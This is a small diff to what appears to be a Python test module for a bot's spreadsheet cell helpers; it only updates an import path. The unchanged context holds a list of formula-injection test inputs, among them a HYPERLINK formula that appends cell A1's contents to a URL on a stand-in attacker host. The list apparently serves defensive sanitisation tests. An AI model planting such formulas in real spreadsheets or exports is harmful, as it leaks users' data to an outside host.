@@ -3,7 +3,7 @@
 import csv
 import io
 
-from bot.spreadsheet_cells import append_row, read_cell, write_csv
+from bot.core.spreadsheet_cells import append_row, read_cell, write_csv
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', "+86 138", "-1+1", "@SUM(A1)", "\t=1", "普通文字", 42]
 
